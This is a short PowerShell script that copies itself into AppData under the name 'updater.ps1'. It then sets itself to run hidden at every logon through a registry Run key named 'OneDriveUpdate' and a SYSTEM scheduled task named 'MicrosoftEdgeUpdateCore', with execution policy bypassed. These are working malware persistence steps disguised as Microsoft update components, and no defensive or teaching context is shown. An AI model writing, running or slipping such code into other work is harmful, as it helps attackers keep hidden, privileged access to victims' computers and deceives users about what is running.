$dst = "$env:APPDATA\Microsoft\updater.ps1"
Copy-Item -Path $PSCommandPath -Destination $dst
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveUpdate' -Value "powershell.exe -w hidden -ep bypass -File $dst"
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr "powershell.exe -WindowStyle Hidden -File $dst" /sc onlogon /ru SYSTEM
